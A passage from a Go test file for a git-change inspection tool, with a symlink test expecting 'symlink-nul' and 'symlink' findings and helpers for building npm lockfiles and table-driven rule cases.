	link := gitx.TreeChange{Status: 'A', Path: "l", NewMode: gitx.ModeSymlink, OldHash: zeroHash, NewHash: m.put(target)}
	fs, err := Inspect([]gitx.TreeChange{link}, m, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if got := rules(t, fs); got != "high:symlink-nul medium:symlink" {
		t.Fatalf("got %q", got)
	}
	if len(fs[0].Why) > 1000 || !strings.Contains(fs[0].Why, "(4096 bytes)") {
		t.Fatalf("reason of %d bytes: %.300q", len(fs[0].Why), fs[0].Why)
	}
}

// npmLockOf is a package-lock.json (v3) of one package.
func npmLockOf(name, version, resolved, integrity string) string {
	return fmt.Sprintf(`{"lockfileVersion": 3, "packages": {"": {"name": "app"}, "node_modules/%s": {"version": %q, "resolved": %q, "integrity": %q}}}`,
		name, version, resolved, integrity)
}

// ruleCase is one change and the rules it must raise ("severity:rule",
// space-separated, as rules() prints them).
type ruleCase struct {
	name   string
	change gitx.TreeChange
	want   string
}

// checkRuleCases inspects each case's change alone, reading blobs from m.
func checkRuleCases(t *testing.T, m memBlobs, tests []ruleCase) {
	t.Helper()
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			fs, err := Inspect([]gitx.TreeChange{tc.change}, m, Options{})
			if err != nil {
				t.Fatal(err)
			}
			if got := rules(t, fs); got != tc.want {
				t.Fatalf("got %q, want %q\n%+v", got, tc.want, fs)
			}
		})
	}
}
